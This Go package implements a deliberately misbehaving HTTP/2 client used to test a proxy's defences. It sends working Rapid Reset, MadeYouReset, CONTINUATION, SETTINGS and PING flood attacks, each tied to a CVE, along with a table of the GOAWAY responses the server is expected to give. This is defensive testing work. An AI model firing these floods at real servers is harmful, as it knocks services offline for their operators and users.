// Package h2abuse is an HTTP/2 client that misbehaves on purpose: it opens
// one connection (h2c with prior knowledge, or TLS with ALPN h2) and sends
// the frame patterns of the known HTTP/2 denial-of-service attacks, so that
// tests and measurements can see what a server does with them:
//
//   - RapidReset: HEADERS then RST_STREAM at once, stream after stream
//     (CVE-2023-44487);
//   - MadeYouReset: HEADERS then a frame the server must answer with a
//     stream error, so that the server resets the stream itself
//     (CVE-2025-8671);
//   - ContinuationFlood: one HEADERS without END_HEADERS, then CONTINUATION
//     frames that never end the block (CVE-2024-27316);
//   - SettingsFlood and PingFlood: control frames the server must
//     acknowledge, one after the other.
//
// It is written on the x/net Framer because no client library sends these
// frames. It is test and measurement code; nothing in the proxy imports it.
package h2abuse

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Target is where an attack is sent.
type Target struct {
	Addr string
	// TLS makes the connection TLS with ALPN h2; nil is h2c with prior
	// knowledge.
	TLS *tls.Config
	// Authority and Path are the requests' :authority and :path.
	Authority, Path string
}

// Attack sends its i'th unit (a stream, or one flood frame) on c.
type Attack func(c *Conn, i int) error

// Options bound one run.
type Options struct {
	// Units is the most units sent. Default 10,000.
	Units int
	// Duration is the longest the attack runs. Default 2s.
	Duration time.Duration
	// Linger is how long to wait, once the attack stops, for the server to
	// close the connection. Default 1s.
	Linger time.Duration
}

// Result is what one run saw.
type Result struct {
	Units   int           // units sent
	Elapsed time.Duration // from the first unit to the end of the attack
	// Closed is true when the server closed the connection (GOAWAY, EOF
	// or a reset) during the run or its linger.
	Closed bool
	// UnitsAtClose is how many units had been sent when the close was
	// seen (the server read fewer: the rest were in flight).
	UnitsAtClose     int
	GoAway           bool          // a GOAWAY came
	GoAwayCode       http2.ErrCode // its code
	GoAwayDebug      string        // its debug data
	GoAwayLastStream uint32        // its last stream id
	ServerResets     int           // RST_STREAM frames the server sent
	Responses        int           // HEADERS frames the server sent
	ReadErr          error         // how reading ended, if it did
}

// Limit is the Misaki limit the GOAWAY's debug data names
// ("misaki: over limits.http2.<limit>"), or "".
func (r Result) Limit() string {
	name, _ := strings.CutPrefix(r.GoAwayDebug, "misaki: over limits.http2.")
	if name == r.GoAwayDebug {
		return ""
	}
	return name
}

func (r Result) String() string {
	s := fmt.Sprintf("%d units in %v, closed=%v", r.Units, r.Elapsed.Round(time.Millisecond), r.Closed)
	if r.Closed {
		s += fmt.Sprintf(" after %d units", r.UnitsAtClose)
	}
	if r.GoAway {
		s += fmt.Sprintf(" (GOAWAY %v %q)", r.GoAwayCode, r.GoAwayDebug)
	}
	if r.Closed && !r.GoAway && r.ReadErr != nil {
		s += fmt.Sprintf(" (%v)", r.ReadErr)
	}
	return s + fmt.Sprintf(", %d server resets, %d responses", r.ServerResets, r.Responses)
}

// Conn is one attacking connection. Its Write methods are for Attacks,
// which run on one goroutine.
type Conn struct {
	nc    net.Conn
	bw    *bufio.Writer
	wmu   sync.Mutex // guards fr's writes and bw: the reader acknowledges SETTINGS
	fr    *http2.Framer
	block []byte // the request's header block, reusable (nothing indexed)

	nextID uint32 // the next stream id

	units        atomic.Int64
	closed       chan struct{} // closed when reading ends
	unitsAtClose atomic.Int64
	mu           sync.Mutex // guards the fields below
	res          Result
	changed      chan struct{}   // closed and replaced when res changes
	answered     map[uint32]bool // streams the server sent HEADERS on
}

// Dial opens a connection to t and does the HTTP/2 handshake: preface,
// SETTINGS with large windows, and a connection WINDOW_UPDATE, so that the
// server never waits for this client's flow control; then it reads the
// server's preface, a SETTINGS frame, and acknowledges it.
//
// The acknowledgement is sent before any attack's frame: sent later, it
// could fall inside a header block an attack leaves open (a CONTINUATION
// flood's never ends), which is a connection error (RFC 9113, section
// 6.10), and the server would close the connection with PROTOCOL_ERROR
// for the acknowledgement, not for the attack.
func Dial(ctx context.Context, t Target) (*Conn, error) {
	var d net.Dialer
	nc, err := d.DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return nil, err
	}
	scheme := "http"
	if t.TLS != nil {
		cfg := t.TLS.Clone()
		cfg.NextProtos = []string{"h2"}
		tc := tls.Client(nc, cfg)
		if err := tc.HandshakeContext(ctx); err != nil {
			nc.Close()
			return nil, err
		}
		if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
			nc.Close()
			return nil, fmt.Errorf("h2abuse: ALPN chose %q, not h2", p)
		}
		nc, scheme = tc, "https"
	}
	c := &Conn{nc: nc, bw: bufio.NewWriterSize(nc, 64<<10), nextID: 1, closed: make(chan struct{}), changed: make(chan struct{}), answered: map[uint32]bool{}}
	c.fr = http2.NewFramer(c.bw, bufio.NewReader(nc))
	c.fr.AllowIllegalWrites = true
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	path := t.Path
	if path == "" {
		path = "/"
	}
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", scheme}, {":authority", t.Authority}, {":path", path}} {
		// Never indexed: the same bytes can be sent again and again.
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	c.block = hb.Bytes()

	c.bw.WriteString(http2.ClientPreface)
	c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	c.fr.WriteWindowUpdate(0, 1<<30)
	if err := c.bw.Flush(); err != nil {
		nc.Close()
		return nil, err
	}
	if err := c.serverPreface(ctx); err != nil {
		nc.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

// serverPreface reads the server's first frame, which must be SETTINGS,
// and acknowledges it.
func (c *Conn) serverPreface(ctx context.Context) error {
	stop := context.AfterFunc(ctx, func() { c.nc.SetReadDeadline(time.Unix(1, 0)) })
	f, err := c.fr.ReadFrame()
	if !stop() {
		return ctx.Err()
	}
	if err != nil {
		return fmt.Errorf("h2abuse: reading the server's preface: %w", err)
	}
	if s, ok := f.(*http2.SettingsFrame); !ok || s.IsAck() {
		return fmt.Errorf("h2abuse: the server's first frame is %v, not SETTINGS", f.Header())
	}
	c.fr.WriteSettingsAck()
	return c.bw.Flush()
}

// read reads the server's frames until the connection ends.
func (c *Conn) read() {
	defer close(c.closed)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.mu.Lock()
			c.res.ReadErr = err
			c.mu.Unlock()
			c.unitsAtClose.Store(c.units.Load())
			return
		}
		c.mu.Lock()
		close(c.changed)
		c.changed = make(chan struct{})
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			c.res.ServerResets++
		case *http2.HeadersFrame:
			c.res.Responses++
			c.answered[f.StreamID] = true
		case *http2.GoAwayFrame:
			if !c.res.GoAway {
				c.unitsAtClose.Store(c.units.Load())
			}
			c.res.GoAway, c.res.GoAwayCode, c.res.GoAwayDebug = true, f.ErrCode, string(f.DebugData())
			c.res.GoAwayLastStream = f.LastStreamID
		}
		c.mu.Unlock()
		// SETTINGS after the first (Dial acknowledged that one; Go's
		// servers send no other) are acknowledged when the writer is
		// free: waiting for it could stop this reader while the writer
		// waits for the server, which may be waiting for this reader.
		if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() && c.wmu.TryLock() {
			c.fr.WriteSettingsAck()
			c.bw.Flush()
			c.wmu.Unlock()
		}
	}
}

// Seen is what the connection has seen so far.
func (c *Conn) Seen() Result {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.res
}

// Await waits until cond holds for what the connection has seen, or the
// connection ends, or ctx does.
func (c *Conn) Await(ctx context.Context, cond func(Result) bool) error {
	return c.await(ctx, func() bool { return cond(c.res) })
}

// AwaitAnswer waits until the server has answered stream id (sent its
// HEADERS): then it has read every frame sent before that stream's.
func (c *Conn) AwaitAnswer(ctx context.Context, id uint32) error {
	return c.await(ctx, func() bool { return c.answered[id] })
}

// await waits until cond, called with mu held, holds.
func (c *Conn) await(ctx context.Context, cond func() bool) error {
	for {
		c.mu.Lock()
		ok, changed := cond(), c.changed
		c.mu.Unlock()
		if ok {
			return nil
		}
		select {
		case <-changed:
		case <-c.closed:
			c.mu.Lock()
			ok := cond()
			c.mu.Unlock()
			if ok {
				return nil
			}
			return errors.New("h2abuse: connection closed")
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// Closed is closed once the server has closed the connection.
func (c *Conn) Closed() <-chan struct{} { return c.closed }

// Close closes the connection.
func (c *Conn) Close() error { return c.nc.Close() }

// Write runs fn with the connection's Framer, then flushes, so that an
// attack's frames go out together.
func (c *Conn) Write(fn func(fr *http2.Framer) error) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	if err := fn(c.fr); err != nil {
		return err
	}
	return c.bw.Flush()
}

// NewStream returns the next client stream id.
func (c *Conn) NewStream() uint32 {
	id := c.nextID
	c.nextID += 2
	return id
}

// Request writes HEADERS for a GET on a new stream and returns its id.
func (c *Conn) Request(fr *http2.Framer, endStream bool) (uint32, error) {
	id := c.NewStream()
	return id, fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndStream: endStream, EndHeaders: true})
}

// HeaderBlock is the request's header block, as Request sends it.
func (c *Conn) HeaderBlock() []byte { return c.block }

// RapidReset opens a stream with a complete request and cancels it in the
// same write.
func RapidReset(c *Conn, _ int) error {
	return c.Write(func(fr *http2.Framer) error {
		id, err := c.Request(fr, true)
		if err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// A MadeYouReset variant is the frame, sent right after a complete
// request, that the server must answer by resetting the stream.
type MadeYouReset int

const (
	// ZeroWindowUpdate is WINDOW_UPDATE with increment 0 on the stream
	// (PROTOCOL_ERROR).
	ZeroWindowUpdate MadeYouReset = iota
	// WindowOverflow is two WINDOW_UPDATEs that take the stream's send
	// window past 2^31-1 (FLOW_CONTROL_ERROR).
	WindowOverflow
	// DataAfterEndStream is DATA on the half-closed stream
	// (STREAM_CLOSED).
	DataAfterEndStream
	// SelfDependency is PRIORITY making the stream depend on itself
	// (PROTOCOL_ERROR).
	SelfDependency
)

func (v MadeYouReset) String() string {
	return [...]string{"zero WINDOW_UPDATE", "WINDOW_UPDATE overflow", "DATA after END_STREAM", "PRIORITY on itself"}[v]
}

// Attack sends a complete request and the frame that makes the server
// reset it.
func (v MadeYouReset) Attack(c *Conn, _ int) error {
	return c.Write(func(fr *http2.Framer) error {
		id, err := c.Request(fr, true)
		if err != nil {
			return err
		}
		switch v {
		case ZeroWindowUpdate:
			return fr.WriteWindowUpdate(id, 0)
		case WindowOverflow:
			fr.WriteWindowUpdate(id, 1<<31-1)
			return fr.WriteWindowUpdate(id, 1<<31-1)
		case DataAfterEndStream:
			return fr.WriteData(id, false, []byte("x"))
		default:
			return fr.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 15})
		}
	})
}

// ContinuationFlood sends, as unit 0, HEADERS without END_HEADERS, and
// then one CONTINUATION frame per unit, none ending the block. Each
// CONTINUATION carries payload (nil: empty frames).
func ContinuationFlood(payload []byte) Attack {
	var id uint32
	return func(c *Conn, i int) error {
		return c.Write(func(fr *http2.Framer) error {
			if i == 0 {
				id = c.NewStream()
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndStream: true})
			}
			return fr.WriteContinuation(id, false, payload)
		})
	}
}

// SettingsFlood sends one SETTINGS frame per unit.
func SettingsFlood(c *Conn, _ int) error {
	return c.Write(func(fr *http2.Framer) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	})
}

// PingFlood sends one PING per unit.
func PingFlood(c *Conn, i int) error {
	return c.Write(func(fr *http2.Framer) error {
		return fr.WritePing(false, [8]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)})
	})
}

// Run dials t, runs attack until opt's bounds or the server closes the
// connection, and reports what it saw.
func Run(ctx context.Context, t Target, attack Attack, opt Options) (Result, error) {
	if opt.Units <= 0 {
		opt.Units = 10000
	}
	if opt.Duration <= 0 {
		opt.Duration = 2 * time.Second
	}
	if opt.Linger <= 0 {
		opt.Linger = time.Second
	}
	c, err := Dial(ctx, t)
	if err != nil {
		return Result{}, err
	}
	defer c.Close()
	return c.Run(ctx, attack, opt), nil
}

// Run runs attack on c; see the package function Run.
func (c *Conn) Run(ctx context.Context, attack Attack, opt Options) Result {
	start := time.Now()
	end := start.Add(opt.Duration)
	n := 0
loop:
	for ; n < opt.Units; n++ {
		if time.Now().After(end) {
			break
		}
		select {
		case <-c.closed:
			break loop
		case <-ctx.Done():
			break loop
		default:
		}
		if c.Seen().GoAway {
			break
		}
		if err := attack(c, n); err != nil {
			break // the server closed the connection; reading sees how
		}
		c.units.Add(1)
	}
	elapsed := time.Since(start)
	lctx, cancel := context.WithTimeout(ctx, opt.Linger)
	c.Await(lctx, func(r Result) bool { return r.GoAway })
	cancel()
	c.mu.Lock()
	res := c.res
	c.mu.Unlock()
	select {
	case <-c.closed:
		res.Closed = true
	default:
		res.Closed = res.GoAway
	}
	res.Units, res.Elapsed = int(c.units.Load()), elapsed
	if res.Closed {
		res.UnitsAtClose = int(c.unitsAtClose.Load())
		if res.UnitsAtClose == 0 && !res.GoAway {
			res.UnitsAtClose = res.Units
		}
	}
	if errors.Is(res.ReadErr, net.ErrClosed) {
		res.ReadErr = nil
	}
	return res
}

// Case is one attack and how a server with Misaki's HTTP/2 limits must end
// it; the edge's and the gateway's tests run the same cases.
type Case struct {
	Name   string
	Attack Attack
	Code   http2.ErrCode // of the GOAWAY
	// Limits are the limits the GOAWAY may name; none when Go's own server
	// ends the attack. A MadeYouReset attack is ended by the resets limit,
	// or by the open streams one when the attacker opens streams faster
	// than the server resets them: either bounds it.
	Limits []string
}

// EndedBy reports whether r ended the way the case must.
func (c Case) EndedBy(r Result) bool {
	return r.GoAway && r.GoAwayCode == c.Code && (len(c.Limits) == 0 || slices.Contains(c.Limits, r.Limit()))
}

// Cases are the attacks of issue 16: rapid reset, MadeYouReset in four
// forms, CONTINUATION floods, SETTINGS and PING floods.
var Cases = []Case{
	{"rapid reset", RapidReset, http2.ErrCodeEnhanceYourCalm, []string{"resets"}},
	{"MadeYouReset/zero WINDOW_UPDATE", ZeroWindowUpdate.Attack, http2.ErrCodeEnhanceYourCalm, []string{"resets", "streams"}},
	{"MadeYouReset/WINDOW_UPDATE overflow", WindowOverflow.Attack, http2.ErrCodeEnhanceYourCalm, []string{"resets", "streams"}},
	{"MadeYouReset/DATA after END_STREAM", DataAfterEndStream.Attack, http2.ErrCodeEnhanceYourCalm, []string{"resets", "streams"}},
	{"MadeYouReset/PRIORITY on itself", SelfDependency.Attack, http2.ErrCodeEnhanceYourCalm, []string{"resets", "streams"}},
	{"CONTINUATION flood/empty", ContinuationFlood(nil), http2.ErrCodeEnhanceYourCalm, []string{"continuations"}},
	// Header bytes past limits.maxHeaderBytes: Go's server ends that itself.
	{"CONTINUATION flood/header bytes", ContinuationFlood([]byte("\x10\x05x-pad\x7f\x81\x07" + strings.Repeat("a", 1000))), http2.ErrCodeProtocol, nil},
	{"SETTINGS flood", SettingsFlood, http2.ErrCodeEnhanceYourCalm, []string{"settings"}},
	{"PING flood", PingFlood, http2.ErrCodeEnhanceYourCalm, []string{"pings"}},
}
